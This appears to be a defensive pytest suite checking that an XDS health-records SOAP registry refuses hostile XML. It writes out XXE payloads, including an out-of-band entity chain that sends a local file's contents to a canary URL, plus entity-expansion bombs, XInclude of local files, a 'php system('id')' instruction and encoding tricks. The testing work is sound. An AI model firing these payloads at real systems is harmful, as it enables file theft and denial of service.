"""Attacks on XML that are made here: rows X of the matrix.

Every one is sent through the doors of tests/attacks/doors.py, which hold each answer to the closed list, watched as
tests/attacks/conftest.py says.
"""

import pytest

from tests import messages
from tests.attacks.attack_messages import SECONDS, SECURITY, STATUS, fault, question
from tests.attacks.conftest import Target
from tests.attacks.doors import SOAP_PATHS, TRANSACTIONS
from tests.builders import PATIENT
from xds.vocabulary import RIM

HEAD = '<e:Envelope xmlns:e="http://www.w3.org/2003/05/soap-envelope">'


def laughs(levels: int, *, parameter: bool = False) -> str:
    """Entities that each name the one before ten times."""
    mark = "% " if parameter else ""
    sign = "%" if parameter else "&"
    lines = [f'<!ENTITY {mark}a0 "lol">']
    lines += [f'<!ENTITY {mark}a{n} "{f"{sign}a{n - 1};" * 10}">' for n in range(1, levels)]
    return "".join(lines)


def entities(canary_url: str, canary_file: str) -> dict[str, str]:
    """Document types, each of which would have a reader fetch, read or swell. X01, X02, X03"""
    return {
        "a file": f'<!DOCTYPE x [<!ENTITY e SYSTEM "{canary_file}">]>',
        "an address": f'<!DOCTYPE x [<!ENTITY e SYSTEM "{canary_url}">]>',
        "a public id": f'<!DOCTYPE x PUBLIC "-//X//EN" "{canary_url}">',
        "an external subset": f'<!DOCTYPE x SYSTEM "{canary_url}">',
        "a parameter entity": f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{canary_url}"> %p;]>',
        "a parameter entity in another": f'<!DOCTYPE x [<!ENTITY % f SYSTEM "{canary_file}"><!ENTITY % p "<!ENTITY &#37; s SYSTEM \'{canary_url}?%f;\'>"> %p; %s;]>',
        "a local subset redefined": f'<!DOCTYPE x SYSTEM "{canary_file}" [<!ENTITY % local "<!ENTITY e SYSTEM \'{canary_url}\'>">]>',
        "a notation": f'<!DOCTYPE x [<!NOTATION n SYSTEM "{canary_url}"><!ENTITY e SYSTEM "{canary_url}" NDATA n>]>',
        "laughs": f"<!DOCTYPE x [{laughs(10)}]>",
        "few laughs": f"<!DOCTYPE x [{laughs(5)}]>",
        "laughs of parameters": f"<!DOCTYPE x [{laughs(10, parameter=True)} %a9;]>",
        "a quadratic blow-up": f'<!DOCTYPE x [<!ENTITY a0 "{"A" * 50_000}">]>',
        "a circle": '<!DOCTYPE x [<!ENTITY a "&b;"><!ENTITY b "&a;">]>',
        "a circle of parameters": '<!DOCTYPE x [<!ENTITY % a "&#37;b;"><!ENTITY % b "&#37;a;"> %a;]>',
        "default attributes": '<!DOCTYPE x [<!ATTLIST x ID ID #IMPLIED xmlns CDATA "urn:other">]>',
        "nothing": "<!DOCTYPE x>",
        "in small letters": '<!doctype x [<!ENTITY e "x">]>',
    }


NAMES = tuple(entities("", ""))


@pytest.mark.parametrize("path", SOAP_PATHS)
@pytest.mark.parametrize("name", NAMES)
def test_x01_x02_x03_a_document_type_is_the_senders_fault(target: Target, path: str, name: str) -> None:
    found = entities(target.canary.url, target.canary.file_url)[name]
    uses = "&a9;" if name == "laughs" else "&a0;" * 1000 if "quadratic" in name else "&e;"
    for declaration in ("", '<?xml version="1.0"?>'):
        message = f"{declaration}{found}{HEAD}<e:Body><x>{uses}</x></e:Body></e:Envelope>".encode()
        with target.stopwatch.timing(f"{path} {name}"):
            answer = target.doors.simple(path, message)
        assert (answer.status, fault(answer)) == (400, ["env:Sender"])
    assert target.stopwatch.slowest < SECONDS


@pytest.mark.parametrize("name", NAMES)
def test_x01_x02_the_same_in_assertions_tokens_documents_and_messages(target: Target, name: str) -> None:
    found = entities(target.canary.url, target.canary.file_url)[name].encode()
    for octets in (found + b"<x>&e;</x>", found + b"<ClinicalDocument xmlns='urn:hl7-org:v3'>&e;</ClinicalDocument>"):
        target.doors.assertion(octets)
        target.doors.token(octets)
        target.doors.check(octets)
        target.doors.message(octets)
        assert target.doors.documents([octets]).status == 200


BOMBS = {
    "10^3 levels": "<a>" * 1000 + "</a>" * 1000,
    "10^6 levels": "<a>" * 10**6,
    "10^5 attributes": "<a " + " ".join(f"b{n}='1'" for n in range(10**5)) + "/>",
    "10^5 namespaces": "<a " + " ".join(f"xmlns:b{n}='u'" for n in range(10**5)) + "/>",
    "200 levels of 100 namespaces": "".join(
        "<a " + " ".join(f"xmlns:p{level}x{n}='u'" for n in range(100)) + ">" for level in range(200)
    )
    + "</a>" * 200,
    "10^6 elements": "<a/>" * 10**6,
    "7 MB of text": f"<a>{'x' * 7_000_000}</a>",
    "an attribute of 7 MB": f"<a b='{'x' * 7_000_000}'/>",
    "a name of 60 000 letters": f"<{'a' * 60_000}/>",
    "10^5 comments": "<a>" + "<!---->" * 10**5 + "</a>",
    "a comment of 7 MB": f"<a><!--{'x' * 7_000_000}--></a>",
    "10^6 references": f"<a>{'&#65;' * 10**6}</a>",
    "9 MB": f"<a>{'x' * 9_000_000}</a>",
}


@pytest.mark.parametrize("name", BOMBS)
def test_x04_bombs_of_depth_and_width_are_refused_in_time(target: Target, name: str) -> None:
    octets = BOMBS[name].encode()
    for transaction in ("ITI-18", "ITI-42", "ITI-44"):
        with target.stopwatch.timing(f"{transaction} {name}"):
            answer = target.doors.inside(transaction, octets)
        assert answer.status in (200, 400, 413)
        assert b"Success" not in answer.body
    with target.stopwatch.timing(f"assertion {name}"):
        target.doors.post(
            "/xds/registry",
            question(header=f"<s:Security xmlns:s='{SECURITY}'>{BOMBS[name]}</s:Security>"),
            messages.simple_type(),
        )


def test_x05_hints_of_schemas_are_not_followed(target: Target) -> None:
    hints = f'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="u {target.canary.url}" xsi:noNamespaceSchemaLocation="{target.canary.url}"'
    message = question().replace(b"<e:Envelope ", f"<e:Envelope {hints} ".encode())
    answer = target.doors.simple("/xds/registry", message)
    assert (answer.status, b"Success" in answer.body) == (200, True)
    inside = question().replace(b"<q:AdhocQueryRequest ", f"<q:AdhocQueryRequest {hints} ".encode())
    assert target.doors.simple("/xds/registry", inside).status in (200, 400)


@pytest.mark.parametrize("place", ["before", "header", "body", "after"])
@pytest.mark.parametrize("kind", ["xml-stylesheet href='{url}'", "xinclude {url}", "php system('id')"])
def test_x06_instructions_are_the_senders_fault(target: Target, place: str, kind: str) -> None:
    one = f"<?{kind.format(url=target.canary.url)}?>".encode()
    sound = question()
    marks = {"header": b"</e:Header>", "body": b"<q:AdhocQueryRequest", "before": b"<e:Envelope", "after": b""}
    message = sound + one if place == "after" else sound.replace(marks[place], one + marks[place], 1)
    answer = target.doors.simple("/xds/registry", message)
    assert (answer.status, fault(answer)) == (400, ["env:Sender"])


@pytest.mark.parametrize("parse", ["xml", "text"])
def test_x06_inclusions_are_elements_like_others(target: Target, parse: str) -> None:
    for href in (target.canary.file_url, target.canary.url):
        include = f'<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="{href}" parse="{parse}"/>'
        for octets in (
            include,
            f"<r:Slot xmlns:r='{RIM}' name='x'><r:ValueList><r:Value>{include}</r:Value></r:ValueList></r:Slot>",
        ):
            for transaction in TRANSACTIONS:
                assert b"Success" not in target.doors.inside(transaction, octets.encode()).body


ENCODINGS = {
    "UTF-16 without mark": question().decode().replace("UTF-8", "UTF-16").encode("utf-16-le"),
    "UTF-32": question().decode().replace("UTF-8", "UTF-32").encode("utf-32"),
    "UTF-7": b'<?xml version="1.0" encoding="UTF-7"?>+ADw-x+AD4-',
    "UTF-7 of a sound question": question().replace(b"UTF-8", b"UTF-7"),
    "EBCDIC": question().decode().replace("UTF-8", "IBM037").encode("cp037"),
    "ISO-8859-1": question().replace(b"UTF-8", b"ISO-8859-1"),
    "overlong": question().replace(b"1.2.250", b"\xc0\xb1.2.250"),
    "NUL": question().replace(b"1.2.250", b"\x001.2.250"),
    "a surrogate": question().replace(b"1.2.250", b"\xed\xa0\x801.2.250"),
    "a reference to a surrogate": question().replace(b"1.2.250", b"&#xD800;1.2.250"),
    "a reference to NUL": question().replace(b"1.2.250", b"&#0;1.2.250"),
    "XML 1.1": question().replace(b'version="1.0"', b'version="1.1"'),
    "two declarations": b'<?xml version="1.0"?>' + question(),
    "a mark of another encoding": b"\xfe\xff" + question(),
    "something before": b" " + question(),
    "something behind": question() + b"<x/>",
}


@pytest.mark.parametrize("name", ENCODINGS)
def test_x07_other_encodings_and_versions_are_refused(target: Target, name: str) -> None:
    answer = target.doors.simple("/xds/registry", ENCODINGS[name])
    assert (answer.status, fault(answer)) == (400, ["env:Sender"])


def test_x07_utf_16_with_its_mark_is_read(target: Target) -> None:
    octets = question().decode().replace("UTF-8", "UTF-16").encode("utf-16")
    answer = target.doors.post("/xds/registry", octets, "application/soap+xml")
    assert (answer.status, b"Success" in answer.body) == (200, True)


@pytest.mark.parametrize("cut", ["<!---->", "<![CDATA[]]>"])
def test_x09_a_value_is_whole_or_refused_never_its_first_half(target: Target, cut: str) -> None:
    """A patient of another authority whose id begins like a known one's: never taken for the known one."""
    whole = PATIENT.id.encode()
    stranger = whole[:5] + cut.encode() + whole[5:]
    assert b"Success" in target.doors.simple("/xds/registry", question()).body
    answer = target.doors.simple("/xds/registry", question().replace(whole, stranger + b"0"))
    assert answer.status in (200, 400)
    assert b"ExtrinsicObject" not in answer.body


CONFUSED = {
    "two bodies": f"{HEAD}<e:Body><x/></e:Body><e:Body><x/></e:Body></e:Envelope>",
    "a header behind the body": f"{HEAD}<e:Body><x/></e:Body><e:Header/></e:Envelope>",
    "two headers": f"{HEAD}<e:Header/><e:Header/><e:Body><x/></e:Body></e:Envelope>",
    "two elements in the body": f"{HEAD}<e:Body><x/><x/></e:Body></e:Envelope>",
    "an empty body": f"{HEAD}<e:Body/></e:Envelope>",
    "no body": f"{HEAD}<e:Header/></e:Envelope>",
    "an envelope in an envelope": f"{HEAD}<e:Body>{HEAD}<e:Body><x/></e:Body></e:Envelope></e:Body></e:Envelope>",
    "a prefix that changes": f'{HEAD}<e:Body xmlns:e="urn:other"><x/></e:Body></e:Envelope>',
    "another root": '<x xmlns="http://www.w3.org/2003/05/soap-envelope"/>',
    "something behind the body": f"{HEAD}<e:Body><x/></e:Body><x/></e:Envelope>",
}


@pytest.mark.parametrize("name", CONFUSED)
def test_x10_a_confused_envelope_is_the_senders_fault(target: Target, name: str) -> None:
    for path in SOAP_PATHS:
        answer = target.doors.simple(path, CONFUSED[name].encode())
        assert (answer.status, fault(answer)[0]) == (400, "env:Sender")


@pytest.mark.parametrize("namespace", ["http://schemas.xmlsoap.org/soap/envelope/", "urn:other"])
def test_x10_another_version_is_a_version_mismatch(target: Target, namespace: str) -> None:
    message = f'<e:Envelope xmlns:e="{namespace}"><e:Body><x/></e:Body></e:Envelope>'.encode()
    answer = target.doors.simple("/xds/registry", message)
    assert (answer.status, fault(answer)) == (500, ["env:VersionMismatch"])


@pytest.mark.parametrize("value", ["1", "true"])
@pytest.mark.parametrize(
    ("role", "status"), [("", 500), ("next", 500), ("ultimateReceiver", 500), ("none", 200), ("urn:other", 200)]
)
def test_x11_what_must_be_understood_and_is_not_is_a_fault(target: Target, value: str, role: str, status: int) -> None:
    uri = f"http://www.w3.org/2003/05/soap-envelope/role/{role}" if role and ":" not in role else role
    roles = f' e:role="{uri}"' if role else ""
    answer = target.doors.simple(
        "/xds/registry", question(header=f'<z:h xmlns:z="urn:z" e:mustUnderstand="{value}"{roles}/>')
    )
    assert answer.status == status
    assert (b"NotUnderstood" in answer.body) == (status == 500)


LONG = {
    "1 MB of an id": "9" * 10**6,
    "an OID of 10^5 arcs": "1." * 10**5 + "1",
    "10^5 quotes": "'" * 10**5,
    "10^5 brackets": "(" * 10**5,
    "10^5 values": "','".join("a" * 10**5),
    "10^5 carets": "^" * 10**5,
    "10^5 ampersands": "&" * 10**5,
    "10^5 blanks": " " * 10**5,
}


@pytest.mark.parametrize("name", LONG)
@pytest.mark.parametrize(
    "slot", ["$XDSDocumentEntryPatientId", "$XDSDocumentEntryTypeCode", "$XDSDocumentEntryUniqueId"]
)
def test_x13_long_identifiers_are_refused_at_once(target: Target, name: str, slot: str) -> None:
    query = messages.GET_DOCUMENTS if slot.endswith("UniqueId") else messages.FIND_DOCUMENTS
    slots = {"$XDSDocumentEntryPatientId": f"'{PATIENT}'", "$XDSDocumentEntryStatus": STATUS, slot: f"('{LONG[name]}')"}
    if query == messages.GET_DOCUMENTS:
        slots = {slot: slots[slot]}
    with target.stopwatch.timing(name):
        answer = target.doors.inside("ITI-18", messages.query_body(query, slots))
    assert answer.status == 200
    assert b"ExtrinsicObject" not in answer.body
    with target.stopwatch.timing(name):
        target.doors.message(f"MSH|^~\\&|A|B|C|D|20260310||ADT^A04|1|P|2.3.1\rPID|||{LONG[name]}".encode())
    assert target.stopwatch.slowest < SECONDS
